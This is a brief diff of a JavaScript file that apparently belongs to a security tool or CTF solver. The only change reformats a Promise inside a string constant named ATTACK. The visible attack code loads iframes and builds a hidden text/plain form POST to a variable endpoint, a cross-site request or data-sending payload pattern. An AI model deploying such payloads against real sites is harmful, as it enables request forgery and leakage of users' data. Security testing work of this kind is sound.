@@ -58,7 +58,10 @@ const ATTACK = `async (url, message) => {
     const frame = document.createElement('iframe');
     frame.src = url + src;
     document.body.append(frame);
-    await new Promise((resolve) => { frame.onload = frame.onerror = resolve; setTimeout(resolve, 2000); });
+    await new Promise((resolve) => {
+      frame.onload = frame.onerror = resolve;
+      setTimeout(resolve, 2000);
+    });
   }
   const form = document.createElement('form');
   Object.assign(form, { method: 'POST', action: send, enctype: 'text/plain', target: 'gone' });
